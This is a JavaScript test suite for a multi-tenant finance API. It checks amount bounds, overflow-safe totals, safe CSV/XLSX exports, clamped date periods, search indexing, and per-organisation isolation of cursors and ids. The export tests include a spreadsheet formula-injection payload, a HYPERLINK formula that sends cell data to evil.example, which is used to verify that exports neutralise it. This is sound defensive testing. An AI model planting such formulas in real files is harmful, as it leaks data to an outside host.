// Data-level defenses found by an attack on a running server (issue 22):
// bounded amounts and checked totals, opaque ids and cursors across
// organisations, indexed text search, safe exports, clamped periods.
//
// Each organisation here starts empty in one fresh data dir; rows are
// written over the API as an attacker or a careless client would.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { startServer, api, token, tempDir, cleanup } from './lib/harness.mjs';

const sleep = (ms) => new Promise((res) => setTimeout(res, ms));

let root, srv;
const tok = {};

before(async () => {
  root = tempDir();
  for (const o of ['bound', 'big', 'a', 'b', 'exp', 'exp2']) tok[o] = token(root, o);
  srv = await startServer(root);
});

after(async () => {
  if (srv) await srv.stop();
  if (root) cleanup(root);
});

const JSONH = { 'content-type': 'application/json' };
const post = (org, kind, body) =>
  api(srv, tok[org], `/api/v1/${kind}`, { method: 'POST', headers: JSONH, body: typeof body === 'string' ? body : JSON.stringify(body) });
const importCsv = (org, kind, csv) =>
  api(srv, tok[org], `/api/v1/import/${kind}`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body: csv });
// A money member read exactly from the raw JSON text (past 2^53 a JS number is not).
const bigMember = (text, name) => {
  const m = new RegExp(`"${name}":(-?\\d+)[,}]`).exec(text);
  assert.ok(m, `${name} is an integer in ${text}`);
  return BigInt(m[1]);
};

describe('item 1: amounts are bounded and totals never overflow', () => {
  test('amount bound: |amount| < 10^15 cents on JSON writes (integer and string) and CSV imports', async () => {
    let r = await post('bound', 'payments', { id: 'P1', date: '2026-10-01', payer: 'X', amount: 1e15 });
    assert.equal(r.status, 422, r.text);
    assert.match(r.json.rejections[0].reason, /amount out of range.*10\^15/);
    r = await post('bound', 'payments', { id: 'P1', date: '2026-10-01', payer: 'X', amount: '-10000000000000.00' });
    assert.equal(r.status, 422, r.text);
    r = await post('bound', 'payments', '{"id":"P1","date":"2026-10-01","payer":"X","amount":9223372036854775807}');
    assert.equal(r.status, 422, r.text);
    r = await post('bound', 'payments', [
      { id: 'P1', date: '2026-10-01', payer: 'X', amount: 999999999999999 },
      { id: 'P2', date: '2026-10-01', payer: 'X', amount: '-9999999999999.99' },
    ]);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, 2);
    r = await importCsv('bound', 'costs', 'id,date,category,amount\nC1,2026-10-01,Rent,10000000000000.00\nC2,2026-10-01,Rent,5\n');
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, 1);
    assert.equal(r.json.rejections[0].line, 2);
    assert.match(r.json.rejections[0].reason, /amount out of range/);
    // debit/credit: each side fits, the difference must too
    r = api(srv, tok.bound, '/api/v1/import/payments?debit=out&credit=in', {
      method: 'POST', body: 'id,date,payer,out,in\nD1,2026-10-02,Y,999999999999.99,999999999999.99\nD2,2026-10-02,Y,9999999999999.99,-9999999999999.99\n',
    });
    r = await r;
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, 1);
    assert.match(r.json.rejections[0].reason, /out of range/);
  });

  test('totals: a write that would take an org past 2^62 cents is refused, and sums stay exact integers', async () => {
    const N = 4611; // 4611 x (10^15 - 1) < 2^62 < 4612 x (10^15 - 1)
    const max = 999999999999999;
    const rows = Array.from({ length: N }, (_, i) => ({ id: `B${i}`, date: '2026-10-05', payer: 'Big', amount: max }));
    let r = await post('big', 'payments', rows);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, N);
    // any kind counts: one more row of any sign is refused, whole, with a reason
    for (const [kind, row] of [
      ['payments', { id: 'B-extra', date: '2026-10-06', payer: 'Big', amount: max }],
      ['costs', { id: 'C-extra', date: '2026-10-06', category: 'Rent', amount: -max }],
    ]) {
      r = await post('big', kind, [row, { ...row, id: `${row.id}2`, amount: 1 }]);
      assert.equal(r.status, 422, r.text);
      assert.match(r.json.detail, /totals would exceed.*nothing was stored/);
    }
    r = await importCsv('big', 'sales_orders', `id,date,customer,status,amount\nS1,2026-10-06,Big,completed,9999999999999.99\n`);
    assert.equal(r.status, 422, r.text);
    assert.match(r.json.detail, /totals would exceed/);
    // delete and re-insert (this once turned a rollup total into a REAL)
    for (let k = 0; k < 3; k++) {
      r = await api(srv, tok.big, '/api/v1/payments/B7', { method: 'DELETE' });
      assert.equal(r.status, 204);
      r = await post('big', 'payments', { id: 'B7', date: '2026-10-05', payer: 'Big', amount: max });
      assert.equal(r.status, 200, r.text);
    }
    r = await api(srv, tok.big, '/api/v1/overview?from=2026-10-01&to=2026-10-31');
    assert.equal(r.status, 200, r.text);
    assert.equal(bigMember(r.text, 'cash_in'), BigInt(N) * BigInt(max));
    assert.equal(bigMember(r.text, 'net'), BigInt(N) * BigInt(max));
    r = await api(srv, tok.big, '/api/v1/cashflow?from=2026-01-01&to=2026-12-31&interval=year');
    assert.equal(r.status, 200, r.text);
    assert.doesNotMatch(r.text, /\d[eE][+-]?\d|\d\.\d/, 'no floating-point total');
    // freeing room lets writes in again
    r = await api(srv, tok.big, '/api/v1/payments/B0', { method: 'DELETE' });
    assert.equal(r.status, 204);
    r = await post('big', 'costs', { id: 'C-extra', date: '2026-10-06', category: 'Rent', amount: -max });
    assert.equal(r.status, 200, r.text);
    r = await api(srv, tok.big, '/api/v1/overview?from=2026-10-01&to=2026-10-31');
    assert.equal(bigMember(r.text, 'cash_in'), BigInt(N - 1) * BigInt(max));
    assert.equal(bigMember(r.text, 'cash_out'), -BigInt(max));
    assert.equal(bigMember(r.text, 'net'), BigInt(N) * BigInt(max));
  });
});

async function runTask(org, kind, params) {
  const r = await api(srv, tok[org], '/api/v1/tasks', { method: 'POST', headers: JSONH, body: JSON.stringify({ kind, params }) });
  assert.equal(r.status, 202, r.text);
  const end = Date.now() + 60000;
  for (;;) {
    const j = (await api(srv, tok[org], `/api/v1/tasks/${r.json.id}`)).json;
    if (['succeeded', 'failed', 'cancelled', 'interrupted'].includes(j.status)) {
      assert.equal(j.status, 'succeeded', JSON.stringify(j));
      return j;
    }
    if (Date.now() > end) throw new Error(`task ${r.json.id} still ${j.status}`);
    await sleep(50);
  }
}

async function download(org, task) {
  const res = await fetch(srv.base + task.result_url, { headers: { authorization: `Bearer ${tok[org]}` } });
  assert.equal(res.status, 200);
  return Buffer.from(await res.arrayBuffer());
}

describe('item 10: exports neither run formulas nor break XML, and CSV round-trips exactly', () => {
  const nasty = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '+41 22 000', '-2+3', '@SUM(A1:A9)', '\tTab first',
    '\rCR first', "'=already guarded", "''two apostrophes", "'s-Hertogenbosch", 'a\uFFFEb\uFFFFc', 'lit _x0041_ esc',
    'plain text', '=', "'",
  ];
  const rows = nasty.map((d, i) => ({ id: `E${String(i).padStart(2, '0')}`, date: '2026-10-01', category: 'Misc', amount: -1250 - i, description: d }));
  const listed = async (org) => (await api(srv, tok[org], '/api/v1/costs?sort=date&limit=1000')).json.data.items
    .map((x) => [x.id, x.description, x.amount]).sort();

  test('CSV: formula-leading text gets an apostrophe, money stays a number, re-import gives the same rows', async () => {
    let r = await post('exp', 'costs', rows);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, nasty.length, r.text);
    const t = await runTask('exp', 'export', { entity: 'costs', format: 'csv', sort: 'date' });
    const csv = (await download('exp', t)).toString('utf8');
    assert.match(csv, /\r\nE00,2026-10-01,Misc,-12\.50,,"'=HYPERLINK\(""http/);
    assert.match(csv, /\r\nE01,2026-10-01,Misc,-12\.51,,'\+41 22 000\r\n/);
    assert.match(csv, /\r\nE03,[^\r]*,'@SUM/);
    assert.match(csv, /\r\nE06,[^\r]*,''=already/);
    assert.match(csv, /\r\nE08,[^\r]*,'s-Hertogenbosch\r\n/, 'an apostrophe before a letter is left alone');
    // no text cell of the file starts with a formula character
    for (const line of csv.split('\r\n').slice(1))
      assert.doesNotMatch(line.replace(/^[^,]*,[^,]*,[^,]*,-?[\d.]+,[^,]*,/, ''), /^"?[=+@\t]/, line);
    r = await importCsv('exp2', 'costs', csv);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.inserted, nasty.length, r.text);
    assert.deepEqual(await listed('exp2'), await listed('exp'));
    // text is trimmed on every write, so a leading TAB or CR never reaches a file
    assert.deepEqual((await listed('exp')).map((x) => x[1]), nasty.map((d) => d.replace(/^[\t\r]/, '')));
  });

  test('XLSX: valid XML with U+FFFE/U+FFFF, text as string cells (never formulas), money numeric', async () => {
    const t = await runTask('exp', 'export', { entity: 'costs', format: 'xlsx', sort: 'date' });
    const dir = tempDir();
    try {
      const file = path.join(dir, 'x.xlsx');
      writeFileSync(file, await download('exp', t));
      const py = `
import json, re, sys, zipfile, xml.dom.minidom, openpyxl
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.endswith('.xml'):
        xml.dom.minidom.parseString(z.read(n))  # raises on invalid XML
sheet = z.read('xl/worksheets/sheet1.xml').decode()
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.worksheets[0]
unesc = lambda s: re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), s) if isinstance(s, str) else s
rows = [[unesc(c.value) for c in r] + [r[5].data_type, r[3].data_type] for r in ws.iter_rows(min_row=2)]
print(json.dumps({"formulas": sheet.count('<f>') + sheet.count('<f '), "rows": rows}, default=str))
`;
      const out = JSON.parse(execFileSync('/usr/bin/python3', ['-c', py, file], { encoding: 'utf8' }));
      assert.equal(out.formulas, 0);
      const got = out.rows.sort((a, b) => (a[0] < b[0] ? -1 : 1));
      assert.deepEqual(got.map((x) => x[5] ?? ''), nasty.map((d) => d.replace(/^[\t\r]/, '')));
      for (const x of got) {
        assert.equal(x[6], x[5] === null ? 'n' : 's', `description of ${x[0]} is a string cell`);
        assert.equal(x[7], 'n', 'amount is numeric');
      }
      assert.equal(got[0][3], -12.5);
    } finally {
      cleanup(dir);
    }
  });
});

describe('item 11: the previous period never leaves years 1..9999', () => {
  test('overview at the first representable days', async () => {
    let r = await api(srv, tok.a, '/api/v1/overview?from=0001-01-05&to=0001-01-10');
    assert.equal(r.status, 200, r.text);
    assert.deepEqual([r.json.data.previous.from, r.json.data.previous.to], ['0001-01-01', '0001-01-04']);
    r = await api(srv, tok.a, '/api/v1/overview?from=0001-01-01&to=0001-12-31');
    assert.equal(r.status, 200, r.text);
    assert.deepEqual(r.json.data.previous, { from: null, to: null, cash_in: 0, cash_out: 0, net: 0, sales: 0 });
    assert.equal(r.json.data.change.cash_in, null);
    r = await api(srv, tok.a, '/api/v1/overview?from=9999-12-01&to=9999-12-31');
    assert.deepEqual([r.json.data.previous.from, r.json.data.previous.to], ['9999-10-31', '9999-11-30']);
    for (const bad of ['from=0000-12-31&to=0001-01-01', 'from=9999-12-31&to=10000-01-01'])
      assert.equal((await api(srv, tok.a, `/api/v1/overview?${bad}`)).status, 400, bad);
  });
});

describe('item 6: text search uses an index and stays exact', () => {
  test('substring search follows inserts, updates and deletes; short and quoted queries work', async () => {
    const rows = [
      { id: 'S1', date: '2026-10-01', payer: 'Acme Widgets "Ltd"', amount: 100, reference: 'INV-77' },
      { id: 'S2', date: '2026-10-02', payer: 'São Paulo Optics', amount: 200, reference: 'x' },
      { id: 'S3', date: '2026-10-03', payer: 'Widgetry', amount: 300, reference: 'idgeW' },
    ];
    assert.equal((await post('a', 'payments', rows)).status, 200);
    const ids = async (q, extra = '') =>
      (await api(srv, tok.a, `/api/v1/payments?q=${encodeURIComponent(q)}${extra}`)).json.data.items.map((x) => x.id);
    assert.deepEqual(await ids('widget'), ['S3', 'S1']);
    assert.deepEqual(await ids('WIDGET', '&sort=amount'), ['S1', 'S3']);
    assert.deepEqual(await ids('"ltd"'), ['S1']);
    assert.deepEqual(await ids('inv-77'), ['S1']);
    assert.deepEqual(await ids('são'), ['S2']);
    assert.deepEqual(await ids('SÃO'), [], 'only ASCII letters fold, as before');
    assert.deepEqual(await ids('S'), ['S3', 'S2', 'S1'], 'a 1-character query still works');
    assert.deepEqual(await ids('dgeW'), ['S3'], 'trigrams spread over two places are no match');
    assert.deepEqual(await ids('S1'), ['S1']);
    // keyset pages over a search
    let page = await api(srv, tok.a, '/api/v1/payments?q=dget&limit=1');
    assert.deepEqual(page.json.data.items.map((x) => x.id), ['S3']);
    page = await api(srv, tok.a, `/api/v1/payments?q=dget&limit=1&cursor=${page.json.data.next_cursor}`);
    assert.deepEqual(page.json.data.items.map((x) => x.id), ['S1']);
    assert.equal(page.json.data.next_cursor, null);
    // replace, delete: the index follows
    assert.equal((await post('a', 'payments', { ...rows[0], payer: 'Renamed Co' })).status, 200);
    assert.deepEqual(await ids('widget'), ['S3']);
    assert.deepEqual(await ids('renamed'), ['S1']);
    assert.equal((await api(srv, tok.a, '/api/v1/payments/S3', { method: 'DELETE' })).status, 204);
    assert.deepEqual(await ids('widget'), []);
    // another org's rows never show
    assert.equal((await post('b', 'payments', { id: 'S9', date: '2026-10-01', payer: 'Renamed Co', amount: 1 })).status, 200);
    assert.deepEqual(await ids('renamed'), ['S1']);
  });
});

// Reads server-sent events of one org until want(events) holds; returns [{id, data}].
async function events(org, want, trigger) {
  const ac = new AbortController();
  const res = await fetch(srv.base + '/api/v1/events', { headers: { authorization: `Bearer ${tok[org]}` }, signal: ac.signal });
  assert.equal(res.status, 200);
  const reader = res.body.getReader();
  const dec = new TextDecoder();
  const got = [];
  let buf = '';
  const deadline = setTimeout(() => ac.abort(), 15000);
  let triggered = false;
  try {
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      buf += dec.decode(value, { stream: true });
      let cut;
      while ((cut = buf.indexOf('\n\n')) >= 0) {
        const block = buf.slice(0, cut);
        buf = buf.slice(cut + 2);
        const id = /^id: (\d+)$/m.exec(block);
        const data = /^data: (.*)$/m.exec(block);
        if (id && data) got.push({ id: BigInt(id[1]), data: JSON.parse(data[1]) });
      }
      if (!triggered) { triggered = true; await trigger(); }
      if (want(got)) return got;
    }
  } finally {
    clearTimeout(deadline);
    ac.abort();
  }
  throw new Error(`events ended early: ${JSON.stringify(got, (k, v) => (typeof v === 'bigint' ? String(v) : v))}`);
}

describe('item 5: what an org is shown counts nothing of the others', () => {
  test('list cursors are sealed: opaque, stable, bound to their org, collection and sort', async () => {
    const rows = Array.from({ length: 5 }, (_, i) => ({ id: `K${i}`, date: '2026-09-01', payer: 'Keyset', amount: 10 + i }));
    assert.equal((await post('a', 'payments', rows)).status, 200);
    const page = async (org, extra = '') => api(srv, tok[org], `/api/v1/payments?q=Keyset&limit=2${extra}`);
    const p1 = await page('a');
    const c = p1.json.data.next_cursor;
    assert.match(c, /^[A-Za-z0-9_-]{60,}$/);
    assert.equal((await page('a')).json.data.next_cursor, c, 'the same page gives the same cursor');
    assert.doesNotMatch(Buffer.from(c, 'base64url').toString('latin1'), /\d:\d/, 'no readable row id inside');
    const p2 = await page('a', `&cursor=${c}`);
    assert.equal(p2.status, 200);
    assert.deepEqual(p2.json.data.items.map((x) => x.id), ['K2', 'K1']);
    // another org, another sort or collection, an altered or an old-style cursor: 400
    const old = Buffer.from('v1:3:0:20000:1').toString('base64url');
    const flip = c.slice(0, 10) + (c[10] === 'A' ? 'B' : 'A') + c.slice(11);
    for (const [org, q] of [['b', `&cursor=${c}`], ['a', `&cursor=${c}&sort=date`], ['a', `&cursor=${flip}`], ['a', `&cursor=${old}`]]) {
      const r = await page(org, q);
      assert.equal(r.status, 400, `${org} ${q}: ${r.text}`);
    }
    assert.equal((await api(srv, tok.a, `/api/v1/costs?cursor=${c}`)).status, 400);
  });

  test('task ids are unrelated numbers per org; another org cannot reach them', async () => {
    const submit = async (org) => {
      const r = await api(srv, tok[org], '/api/v1/tasks', { method: 'POST', headers: JSONH, body: JSON.stringify({ kind: 'refresh' }) });
      assert.equal(r.status, 202, r.text);
      assert.equal(r.headers.get('location'), `/api/v1/tasks/${r.json.id}`);
      return r.json.id;
    };
    const a1 = await submit('a');
    const b1 = await submit('b');
    const a2 = await submit('a');
    for (const id of [a1, b1, a2]) assert.ok(Number.isSafeInteger(id) && id >= 0, String(id));
    assert.ok(Math.abs(a2 - a1) > 1000 && Math.abs(b1 - a1) > 1000, `ids look like counters: ${a1} ${b1} ${a2}`);
    for (const id of [a1, a2]) {
      const r = await api(srv, tok.a, `/api/v1/tasks/${id}`);
      assert.equal(r.status, 200, r.text);
      assert.equal(r.json.id, id);
      assert.equal((await api(srv, tok.b, `/api/v1/tasks/${id}`)).status, 404);
    }
    const list = (await api(srv, tok.a, '/api/v1/tasks?kind=refresh')).json.items.map((t) => t.id);
    assert.ok(list.includes(a1) && list.includes(a2) && !list.includes(b1));
    assert.equal((await api(srv, tok.a, '/api/v1/tasks/1x')).status, 404);
  });

  test('event ids count only the org\'s own events', async () => {
    let k = 0;
    const write = (org) => post(org, 'costs', { id: `EV${org}${k++}`, date: '2026-09-02', category: 'Ev', amount: 1 });
    const got = await events('a', (evs) => evs.filter((e) => e.data.type === 'data').length >= 2, async () => {
      assert.equal((await write('a')).status, 200);
      for (let i = 0; i < 5; i++) assert.equal((await write('b')).status, 200);
      assert.equal((await write('a')).status, 200);
    });
    // a's own events in between (the refresh tasks of the test before may
    // still be reporting) take ids of a's sequence; b's five writes none
    const at = got.map((e, i) => (e.data.type === 'data' ? i : -1)).filter((i) => i >= 0);
    const [i, j] = at;
    assert.equal(got[j].id - got[i].id, BigInt(j - i),
      `five writes of another org in between: ${got[i].id} -> ${got[j].id}, ${j - i - 1} event(s) of a's own between`);
  });
});
